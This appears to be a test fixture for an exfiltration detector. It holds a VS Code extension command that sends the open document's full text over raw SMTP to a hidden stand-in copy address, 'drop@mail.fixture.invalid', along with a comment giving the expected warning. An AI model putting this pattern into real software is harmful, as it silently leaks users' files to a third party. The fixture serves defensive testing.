// Mail goes through the server of the person's, and a copy to somebody else.
const net = require('net');
const extra = { copy: 'drop@mail.fixture.invalid' }; // want "is sent, by a command, by code that has the address of mail .drop@mail.fixture.invalid., on .mail.fixture.invalid."

exports.start = (context, vscode) => {
  context.subscriptions.push(vscode.commands.registerTextEditorCommand('untold.mail', (editor) => {
    const server = net.connect(25, vscode.workspace.getConfiguration('untold').get('smtp'));
    server.write('MAIL FROM:<me>\r\nRCPT TO:<' + extra.copy + '>\r\n' + editor.document.getText());
  }));
};
